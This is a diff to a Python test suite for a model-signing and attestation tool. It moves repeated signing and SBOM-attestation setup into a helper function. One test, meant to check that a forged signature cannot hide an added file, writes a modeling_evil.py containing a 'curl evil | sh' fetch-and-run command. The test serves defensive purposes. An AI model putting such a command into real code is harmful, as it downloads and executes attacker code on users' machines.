@@ -378,12 +378,7 @@ def test_facts_hash_the_model_and_never_read_the_digest_cache(
     monkeypatch.delenv("GUARD_DIGEST_CACHE")
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
     private, public = keys
-    sign_model(model_dir, KeySigner.from_file(private))
-    bom, att = tmp_path / "bom.json", tmp_path / "bom.att.json"
-    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
-    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(private), "-o", str(att)]) == 0
-    required = ["facts", str(model_dir), "--key", str(public), "--attestation", str(att), "--require", "sbom"]
-    assert run(required) == 0
+    required = _signed_with_sbom(model_dir, tmp_path, private, public)
     weights = model_dir / "model.safetensors"
     old = hashlib.sha256(weights.read_bytes()).hexdigest()
     weights.write_bytes(weights.read_bytes()[:-1] + b"\x01")  # same size, other bytes
@@ -504,12 +499,7 @@ def test_an_unverified_model_sig_cannot_hide_a_file_from_the_attestations_subjec
     from guard.signing import Serialization
 
     private, public = keys
-    sign_model(model_dir, KeySigner.from_file(private))
-    bom, att = tmp_path / "bom.json", tmp_path / "bom.att.json"
-    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
-    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(private), "-o", str(att)]) == 0
-    required = ["facts", str(model_dir), "--key", str(public), "--attestation", str(att), "--require", "sbom"]
-    assert run(required) == 0
+    required = _signed_with_sbom(model_dir, tmp_path, private, public)
     # the attacker adds code a loader runs, and a model.sig of their own key that ignores it
     (model_dir / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
     sign_model(
@@ -544,3 +534,15 @@ def _count_hashings(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
         monkeypatch.setattr(where, counted)
     monkeypatch.setattr(hashing, "hash_model", counted)
     return calls
+
+
+def _signed_with_sbom(model_dir: Path, tmp_path: Path, private: Path, public: Path) -> list[str]:
+    """Sign ``model_dir``, attest its SBOM; the `guard facts --require sbom` command line, which
+    passes now."""
+    sign_model(model_dir, KeySigner.from_file(private))
+    bom, att = tmp_path / "bom.json", tmp_path / "bom.att.json"
+    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
+    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(private), "-o", str(att)]) == 0
+    required = ["facts", str(model_dir), "--key", str(public), "--attestation", str(att), "--require", "sbom"]
+    assert run(required) == 0
+    return required
